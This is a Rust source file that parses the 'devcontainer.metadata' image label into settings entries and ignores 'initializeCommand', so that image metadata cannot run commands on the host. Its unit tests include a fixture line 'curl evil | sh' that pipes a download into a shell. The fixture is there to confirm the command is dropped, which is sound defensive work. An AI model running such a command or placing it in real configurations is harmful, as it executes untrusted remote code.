//! The label `devcontainer.metadata` of an image: what was said about the container when the image was made.

use jsonc_parser::ast::Value;

use super::hooks::Phase;
use super::merge::{Entry, Origin};
use super::reader::Reader;
use super::settings::{KEYS, Settings};
use crate::import::Text;
use crate::manifest::{Note, Problem};

/// What the label of an image says, in its order, and notes on what of it is not known. An image has no say in what
/// is run on the host.
///
/// # Errors
/// Everything that is wrong with it.
pub fn image_metadata(text: &Text<'_>) -> Result<(Vec<Entry>, Vec<Note>), Vec<Problem>> {
    let mut reader = Reader::new(text);
    let read = reader.json().map(|value| match &value {
        Value::Array(entries) => entries.elements.iter().map(|value| entry(&mut reader, value)).collect(),
        _ => vec![entry(&mut reader, &value)],
    });
    reader.finish(read)
}

fn entry(reader: &mut Reader<'_>, value: &Value<'_>) -> Entry {
    let mut known = KEYS.to_vec();
    known.retain(|key| *key != Phase::Initialize.key());
    known.push("id");
    let mut id = None;
    let mut settings = Settings::default();
    for member in reader.known_members("", &known, value) {
        match member.key {
            "id" => id = reader.string(member.key, member.value).map(|id| id.value),
            _ => settings.take(reader, &member),
        }
    }
    Entry { origin: id.map_or(Origin::Image, Origin::Feature), settings }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> (Vec<Entry>, Vec<Note>) {
        image_metadata(&Text::new("label devcontainer.metadata", text)).unwrap()
    }

    #[test]
    fn a_label_is_a_list_or_one_object() {
        let (entries, notes) = read(
            r#"[{ "id": "ghcr.io/a/b:1", "init": true }, { "remoteUser": "vscode", "somethingNew": 1 }]"#,
        );
        assert_eq!(entries[0].origin, Origin::Feature("ghcr.io/a/b:1".into()));
        assert_eq!(entries[0].settings.init, Some(true));
        assert_eq!(entries[1].origin, Origin::Image);
        assert_eq!(entries[1].settings.remote_user.as_ref().unwrap().value, "vscode");
        assert_eq!(notes.len(), 1);
        assert_eq!(read(r#"{ "init": true }"#).0.len(), 1);
        assert_eq!(read("[]").0, []);
    }

    #[test]
    fn every_key_that_is_known_is_read() {
        for key in KEYS.iter().filter(|key| !["initializeCommand", "customizations"].contains(key)) {
            let text = format!(r#"{{ "{key}": [[[]]] }}"#);
            let problems = image_metadata(&Text::new("label", &text)).expect_err(key);
            assert!(problems[0].what.starts_with(&format!("`{key}")), "{problems:?}");
        }
    }

    #[test]
    fn an_image_runs_nothing_on_the_host() {
        let (entries, notes) =
            read(r#"{ "initializeCommand": "curl evil | sh", "postStartCommand": "true" }"#);
        assert_eq!(entries[0].settings.hooks.keys().collect::<Vec<_>>(), [&Phase::PostStart]);
        assert!(notes[0].text.starts_with("`initializeCommand` is not known"), "{notes:?}");
    }

    #[test]
    fn what_is_wrong_with_it_is_told() {
        let problems = image_metadata(&Text::new("label", r#"[{ "init": 1 }, 2]"#)).unwrap_err();
        assert_eq!(problems.len(), 2);
    }
}
